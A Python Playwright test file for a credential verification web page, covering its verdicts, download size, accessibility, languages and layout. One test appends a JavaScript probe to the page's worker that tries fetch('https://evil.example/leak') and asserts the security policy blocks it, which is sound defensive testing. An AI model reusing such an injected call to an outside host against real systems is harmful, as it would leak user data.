"""The verify page in a real Chromium: each verdict in words, nothing shown before the proof holds, nothing sent."""

import gzip
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Response, expect

from tests.browser.society import become_society

pytestmark = pytest.mark.browser

OpenPage = Callable[..., Page]


def check_file(page: Page, data: bytes, name: str = "credential.json") -> str:
    """Choose a file on the page and wait for the verdict's code."""
    page.locator("#verify-file").set_input_files({"name": name, "mimeType": "application/json", "buffer": data})
    verdict = page.locator("#verify-result .verdict")
    expect(verdict).to_be_visible(timeout=30_000)
    return verdict.get_attribute("data-verdict") or ""


def example(root: Path, name: str) -> bytes:
    """A holder's file of the example registry."""
    return (root / "tests" / "examples" / f"{name}.json").read_bytes()


@pytest.mark.parametrize(
    ("name", "verdict", "headline"),
    [
        ("valid", "valid", "This credential is valid"),
        ("retired-key", "valid", "This credential is valid"),
        ("reinstated", "valid", "This credential is valid"),
        ("pathway", "valid", "This credential is valid"),
        ("revoked", "withdrawn", "This credential has been withdrawn"),
        ("on-hold", "on_hold", "This credential is on hold"),
        ("expired", "expired", "This credential expired on"),
    ],
)
def test_each_example_has_its_verdict(root: Path, open_page: OpenPage, name: str, verdict: str, headline: str) -> None:
    """Every award of the example gets the verdict its story calls for, with the holder's name and every step."""
    page = open_page("verify/")
    assert check_file(page, example(root, name)) == verdict
    result = page.locator("#verify-result")
    expect(result.locator("h2")).to_contain_text(headline)
    holder = json.loads(example(root, name))["credentialSubject"]["identifier"][0]["identityHash"]
    expect(result).to_contain_text(holder)
    assert result.locator("[data-step]").count() == 13


def test_changed_claim_is_not_genuine_and_nothing_is_shown(root: Path, open_page: OpenPage) -> None:
    """One changed character of a claim: changed or not genuine, and no claim of the file is on the page."""
    document = json.loads(example(root, "valid"))
    name = document["credentialSubject"]["identifier"][0]["identityHash"]
    changed = name[:-1] + ("x" if name[-1] != "x" else "y")
    data = example(root, "valid").replace(name.encode(), changed.encode())
    page = open_page("verify/")
    assert check_file(page, data) == "altered"
    result = page.locator("#verify-result")
    expect(result.locator("h2")).to_have_text("This file has been changed or is not genuine")
    shown = result.inner_text()
    for claim in (changed, name, document["name"], document["issuer"]["name"]):
        assert claim not in shown


@pytest.mark.parametrize("suite", ["ecdsa-rdfc-p256", "ecdsa-jcs-p384", "ecdsa-s-high-p384"])
def test_further_suites_are_checked(root: Path, open_page: OpenPage, suite: str) -> None:
    """With the chunk for them the browser gives what other runtimes give, and refuses a changed copy."""
    data = (root / "tests" / "cases" / f"suite-{suite}" / "credential.json").read_bytes()
    page = open_page("verify/")
    programs: list[str] = []
    page.on("request", lambda request: programs.append(request.url.rpartition("/")[2]))
    assert check_file(page, data) == "unknown_issuer"
    assert programs.count("chunk-signing.js") == 1
    page.reload()
    assert check_file(page, data.replace(b"Noa Marlow", b"Noa Marlov")) == "altered"


def test_usual_credential_is_checked_without_a_chunk(root: Path, open_page: OpenPage) -> None:
    """What most people hold is checked by the small program alone, and each file of the site is asked for once."""
    page = open_page("about/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.get_by_role("link", name="Verify", exact=True).click()
    page.wait_for_url("**/verify/")  # until it is loaded, nobody listens for the file
    assert check_file(page, example(root, "valid")) == "valid"
    # The browser asks for a page's icon when it likes.
    fetched = [url for url in asked if not url.startswith("blob:") and not url.endswith("icon.svg")]
    assert [url for url in fetched if "chunk-" in url] == []
    assert sorted(set(fetched)) == sorted(fetched)


def test_credential_over_plain_values_is_checked_without_a_chunk(root: Path, open_page: OpenPage) -> None:
    """The small program knows eddsa-jcs-2022 as well, and refuses a changed copy."""
    data = (root / "tests" / "cases" / "suite-eddsa-jcs-number" / "credential.json").read_bytes()
    page = open_page("verify/")
    programs: list[str] = []
    page.on("request", lambda request: programs.append(request.url.rpartition("/")[2]))
    assert check_file(page, data) == "unknown_issuer"
    page.reload()
    assert check_file(page, data.replace(b"Noa Marlow", b"Noa Marlov")) == "altered"
    assert [name for name in programs if name.startswith("chunk-")] == []


def test_usual_visit_is_small(root: Path, open_page: OpenPage, origin: str) -> None:
    """The page with all its files and the documents of the check has at most 55,000 bytes, compressed by gzip."""
    page = open_page("about/").context.new_page()
    answers: list[Response] = []

    def keep(answer: Response) -> None:
        answers.append(answer)

    page.on("response", keep)
    page.goto(f"{origin}/verify/")
    assert check_file(page, example(root, "valid")) == "valid"
    page.wait_for_load_state("networkidle")
    sizes = {answer.url: len(gzip.compress(answer.body(), 9)) for answer in answers if answer.url.startswith(origin)}
    assert sum(sizes.values()) <= 55_000, sizes


@pytest.mark.parametrize(
    ("name", "most"), [("suite-eddsa-jcs/credential.json", 49_000), ("jwt-vc/credential.jwt", 55_500)]
)
def test_other_forms_are_small(root: Path, open_page: OpenPage, origin: str, name: str, most: int) -> None:
    """What needs no JSON-LD, and a token, cost no second worker: all files but the ledger of all cases, by gzip."""
    page = open_page("about/").context.new_page()
    become_society(root, page)
    answers: list[Response] = []

    def keep(answer: Response) -> None:
        answers.append(answer)

    page.on("response", keep)
    page.goto(f"{origin}/verify/")
    assert check_file(page, (root / "tests" / "cases" / name).read_bytes()) == "valid"
    page.wait_for_load_state("networkidle")
    sizes = {answer.url: len(gzip.compress(answer.body(), 9)) for answer in answers if answer.url.startswith(origin)}
    weighed = {url: size for url, size in sizes.items() if "/ledger/" not in url}
    assert len(sizes) == len(weighed) + 1
    assert sum(weighed.values()) <= most, weighed


def test_pasted_text_is_checked(root: Path, open_page: OpenPage) -> None:
    """A credential can be pasted instead of chosen, from the keyboard alone."""
    page = open_page("verify/")
    page.locator("#verify-paste-go").press("Enter")
    page.locator("#verify-text").fill(example(root, "valid").decode())
    page.locator("#verify-text-go").press("Enter")
    expect(page.locator("#verify-result .verdict")).to_have_attribute("data-verdict", "valid", timeout=30_000)


def test_dropped_file_is_checked(root: Path, open_page: OpenPage) -> None:
    """A file dropped anywhere on the page is checked and does not replace the page."""
    page = open_page("verify/")
    transfer = page.evaluate_handle(
        "text => { const t = new DataTransfer(); t.items.add(new File([text], 'dropped.json')); return t }",
        example(root, "revoked").decode(),
    )
    page.dispatch_event("#verify-drop", "drop", {"dataTransfer": transfer})
    expect(page.locator("#verify-result .verdict")).to_have_attribute("data-verdict", "withdrawn", timeout=30_000)


def test_verdict_takes_the_focus_and_is_announced(root: Path, open_page: OpenPage) -> None:
    """Who can't see the page hears the verdict: it has the focus, and the live region says it."""
    page = open_page("verify/")
    check_file(page, example(root, "valid"))
    assert page.evaluate("document.activeElement.textContent") == "This credential is valid"
    expect(page.get_by_role("status")).to_have_text("This credential is valid")


def test_anything_else_is_unreadable(open_page: OpenPage) -> None:
    """Bytes that are no credential get a plain answer."""
    page = open_page("verify/")
    assert check_file(page, b"\x89PNG\r\n\x1a\nnothing", "badge.png") == "unreadable"


def test_one_check_after_another(root: Path, open_page: OpenPage) -> None:
    """The second verdict replaces the first, also for the same name."""
    page = open_page("verify/")
    assert check_file(page, example(root, "valid")) == "valid"
    page.locator("#verify-file").set_input_files(
        {"name": "credential.json", "mimeType": "application/json", "buffer": example(root, "revoked")}
    )
    expect(page.locator("#verify-result .verdict")).to_have_attribute("data-verdict", "withdrawn", timeout=30_000)
    assert page.locator("#verify-result .verdict").count() == 1


def test_what_was_fetched_came_from_this_place(root: Path, open_page: OpenPage, origin: str) -> None:
    """Addresses of the registry are answered by the page's own origin, and the page says so."""
    page = open_page("verify/")
    check_file(page, example(root, "valid"))
    lines = page.locator("#verify-result .fetched li").all_text_contents()
    assert any("https://registry.society.example/issuers/example-society/did.json" in line for line in lines)
    assert all(origin.removeprefix("http://") in line for line in lines)


@pytest.mark.parametrize(
    ("path", "headline", "step"),
    [
        ("es/verify/", "Esta credencial ha sido revocada", "correcto"),
        ("fr/verify/", "Cette attestation a été révoquée", "conforme"),
    ],
)
def test_each_language_has_its_page(root: Path, open_page: OpenPage, path: str, headline: str, step: str) -> None:
    """A verdict is in the language of its page, and no words of another are loaded."""
    page = open_page(path)
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    page.reload()  # the words are asked for while the person looks for the file
    assert check_file(page, example(root, "revoked")) == "withdrawn"
    expect(page.locator("#verify-result h2")).to_have_text(headline)
    expect(page.locator('#verify-result [data-step="read"]')).to_contain_text(step)
    words = [url[url.index("messages/") :] for url in loaded if "messages/" in url]
    assert [f"messages/{path[:2]}.json"] == words


def test_other_languages_are_one_step_away(open_page: OpenPage) -> None:
    """The switch names each language in itself, marks the present one, and leads to the same page."""
    page = open_page("verify/")
    switch = page.get_by_role("navigation", name="Language")
    expect(switch.locator("[aria-current]")).to_have_text("English")
    link = switch.get_by_role("link", name="Français")
    assert ("fr", "fr") == (link.get_attribute("lang"), link.get_attribute("hreflang"))
    link.click()
    expect(page.locator("html")).to_have_attribute("lang", "fr")
    expect(page.locator("h1")).to_have_text("Vérifier une attestation")


@pytest.mark.parametrize("width", [360, 1280])
def test_page_can_be_written_from_the_right(root: Path, open_page: OpenPage, width: int) -> None:
    """With `dir=rtl` the page is mirrored and nothing runs over an edge."""
    page = open_page("verify/", viewport={"width": width, "height": 800})
    page.evaluate("document.documentElement.dir = 'rtl'")
    check_file(page, example(root, "valid"))
    outside = """() => [...document.querySelectorAll('main *')].filter(e => { const r = e.getBoundingClientRect()
        return (r.left < -1 || r.right > innerWidth + 1) && !e.closest('.vh') }).map(e => e.outerHTML.slice(0, 80))"""
    assert ([], width) == (page.evaluate(outside), page.evaluate("document.documentElement.scrollWidth"))
    sides = "e => { const r = e.getBoundingClientRect(); return (r.left + r.right) / 2 > innerWidth / 2 }"
    assert width == 360 or page.locator("#verify-result .o").first.evaluate(sides)
    assert page.locator(".brand").evaluate(sides)


_PROBE = """
;(async () => {
  const stopped = new Promise((done) =>
    self.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective)))
  const nothing = new Promise((done) => setTimeout(done, 2000, 'none'))
  let answer
  try { await fetch('https://evil.example/leak'); answer = 'reached' } catch { answer = 'blocked' }
  self.postMessage({probe: answer, directive: await Promise.race([stopped, nothing])})
})()
"""
_START = """async (probe) => {
  const program = await (await fetch('worker.js')).text()
  const address = URL.createObjectURL(new Blob([program + probe], {type: 'text/javascript'}))
  const worker = new Worker(address)
  return new Promise((resolve) => worker.addEventListener('message', ({data}) => {
    if (data.probe) resolve(data)
  }))
}"""


def test_worker_can_not_reach_another_host(chromium: Browser, origin: str) -> None:
    """A fetch to another host from inside the worker is stopped by the page's policy, before any request."""
    context = chromium.new_context()
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    page = context.new_page()
    page.goto(f"{origin}/verify/")
    # The real worker's program with a probe put behind it, started in the way that page.js starts it.
    assert page.evaluate(_START, _PROBE) == {"probe": "blocked", "directive": "connect-src"}
    assert [url for url in requests if "evil.example" in url] == []
    context.close()
